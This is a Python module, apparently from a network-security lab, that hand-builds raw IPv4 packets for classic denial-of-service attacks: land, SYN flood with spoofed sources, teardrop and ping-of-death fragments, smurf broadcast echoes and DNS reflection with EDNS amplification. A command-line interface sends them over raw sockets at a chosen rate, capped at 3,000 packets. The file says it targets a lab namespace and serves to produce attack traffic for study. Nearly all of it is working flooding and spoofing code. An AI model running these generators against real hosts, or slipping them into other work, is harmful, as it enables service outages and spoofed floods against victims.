"""`python -m lab.forge KIND ...`: packets that no honest stack sends, made by hand.

Raw sockets send into the namespace that this runs in. The kinds are those of the classic
denial-of-service attacks in KDD Cup 99 (Kendall, MIT Lincoln Laboratory, 1999) and reflection.
"""

from __future__ import annotations

import argparse
import random
import socket
import struct
import time
from collections.abc import Callable, Iterator

MAX_PACKETS = 3_000
MORE_FRAGMENTS = 0x2000
FRAGMENT_BYTES = 1_480
"""A multiple of 8, as an offset needs; with the header it fills a wire of 1,500 bytes."""
Packets = Iterator[bytes]


def checksum(data: bytes) -> int:
    """The Internet checksum of RFC 1071.

    >>> hex(checksum(bytes.fromhex("45000073000040004011 0000 c0a80001c0a800c7")))
    '0xb861'
    """
    padded = data + b"\0" * (len(data) % 2)
    total: int = sum(struct.unpack(f"!{len(padded) // 2}H", padded))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(
    source: str, target: str, protocol: int, payload: bytes, *, number: int, fragment: int = 0
) -> bytes:
    """An IPv4 packet; `fragment` is its flags and offset, in units of 8 bytes."""
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    size = 20 + len(payload)
    head = struct.pack("!BBHHHBBH", 0x45, 0, size, number, fragment, 64, protocol, 0) + ends
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def tcp_syn(source: str, target: str, source_port: int, port: int, *, number: int) -> bytes:
    """A TCP packet that asks for a connection."""
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    head = struct.pack("!HHIIBBHHH", source_port, port, number * 65_537, 0, 0x50, 2, 512, 0, 0)
    pseudo = ends + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(head))
    head = head[:16] + struct.pack("!H", checksum(pseudo + head)) + head[18:]
    return ip(source, target, socket.IPPROTO_TCP, head, number=number)


def udp(source: str, target: str, ports: tuple[int, int], payload: bytes, *, number: int) -> bytes:
    """A UDP packet without a checksum, which IPv4 allows."""
    head = struct.pack("!HHHH", *ports, 8 + len(payload), 0)
    return ip(source, target, socket.IPPROTO_UDP, head + payload, number=number)


def land(_sources: list[str], target: str, ports: list[int], rng: random.Random) -> Packets:
    """SYN packets that a host seems to send to itself, from a port to the same port."""
    while True:
        port = rng.choice(ports)
        yield tcp_syn(target, target, port, port, number=rng.randrange(1, 65_536))


def neptune(sources: list[str], target: str, ports: list[int], rng: random.Random) -> Packets:
    """SYN packets from addresses where nobody is."""
    while True:
        source, source_port = rng.choice(sources), rng.randrange(1_024, 65_536)
        number = rng.randrange(1, 65_536)
        yield tcp_syn(source, target, source_port, rng.choice(ports), number=number)


def teardrop(sources: list[str], target: str, ports: list[int], rng: random.Random) -> Packets:
    """Pairs of fragments, of which the second lies within the first."""
    while True:
        source, number = rng.choice(sources), rng.randrange(1, 65_536)
        source_port = rng.randrange(1_024, 65_536)
        head = struct.pack("!HHHH", source_port, rng.choice(ports), 8 + 28, 0)
        first, second = head + bytes(28), bytes(4)
        kind = socket.IPPROTO_UDP
        yield ip(source, target, kind, first, number=number, fragment=MORE_FRAGMENTS)
        yield ip(source, target, kind, second, number=number, fragment=3)


def ping_of_death(
    sources: list[str], target: str, _ports: list[int], rng: random.Random
) -> Packets:
    """Echo requests in fragments that together are longer than an IP packet may be."""
    while True:
        source, number = rng.choice(sources), rng.randrange(1, 65_536)
        echo = struct.pack("!BBHHH", 8, 0, 0, number, 1) + bytes(FRAGMENT_BYTES - 8)
        for offset in range(0, 65_535, FRAGMENT_BYTES):
            is_last = offset + FRAGMENT_BYTES > 65_535
            fragment = offset // 8 | (0 if is_last else MORE_FRAGMENTS)
            data = bytes(FRAGMENT_BYTES) if offset else echo
            yield ip(source, target, socket.IPPROTO_ICMP, data, number=number, fragment=fragment)


def smurf(sources: list[str], target: str, _ports: list[int], rng: random.Random) -> Packets:
    """Echo requests to everybody (`target` is a broadcast address) in the name of a victim."""
    for sequence in range(65_536):
        number = rng.randrange(1, 65_536)
        head = struct.pack("!BBHHH", 8, 0, 0, 1, sequence) + bytes(56)
        head = head[:2] + struct.pack("!H", checksum(head)) + head[4:]
        yield ip(rng.choice(sources), target, socket.IPPROTO_ICMP, head, number=number)


def dns_reflection(
    sources: list[str], target: str, _ports: list[int], rng: random.Random
) -> Packets:
    """DNS questions with long answers, in the name of a victim."""
    name = b"".join(bytes([len(part)]) + part for part in (b"big", b"lab", b"test")) + b"\0"
    while True:
        number = rng.randrange(1, 65_536)
        question = struct.pack("!HHHHHH", number, 0x0100, 1, 0, 0, 1) + name
        question += struct.pack("!HH", 16, 1)  # TXT, IN
        question += struct.pack("!BHHIH", 0, 41, 4_096, 0, 0)  # EDNS: answers of up to 4,096 bytes
        ports = (rng.randrange(1_024, 65_536), 53)
        yield udp(rng.choice(sources), target, ports, question, number=number)


Kind = Callable[[list[str], str, list[int], random.Random], Packets]
KINDS: dict[str, Kind] = {
    kind.__name__: kind for kind in (land, neptune, teardrop, ping_of_death, smurf, dns_reflection)
}


def send(packets: Packets, target: str, *, n_packets: int, per_s: float) -> None:
    """Send so many of the packets, at a rate."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as raw:
        raw.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        start_s = time.monotonic()
        for i, packet in zip(range(min(n_packets, MAX_PACKETS)), packets, strict=False):
            time.sleep(max(0.0, start_s + i / per_s - time.monotonic()))
            raw.sendto(packet, (target, 0))


def main() -> None:
    """Send what the arguments say."""
    parser = argparse.ArgumentParser(prog="python -m lab.forge", description=__doc__)
    parser.add_argument("kind", choices=sorted(KINDS))
    parser.add_argument("target")
    parser.add_argument("--sources", default="", help="addresses, separated by commas")
    parser.add_argument("--ports", default="80", help="ports, separated by commas")
    parser.add_argument("--packets", type=int, default=100)
    parser.add_argument("--per-s", type=float, default=100.0)
    parser.add_argument("--seed", type=int, default=0)
    given = parser.parse_args()
    ports = [int(port) for port in given.ports.split(",")]
    sources = given.sources.split(",")
    packets = KINDS[given.kind](sources, given.target, ports, random.Random(given.seed))
    send(packets, given.target, n_packets=given.packets, per_s=given.per_s)


if __name__ == "__main__":
    main()
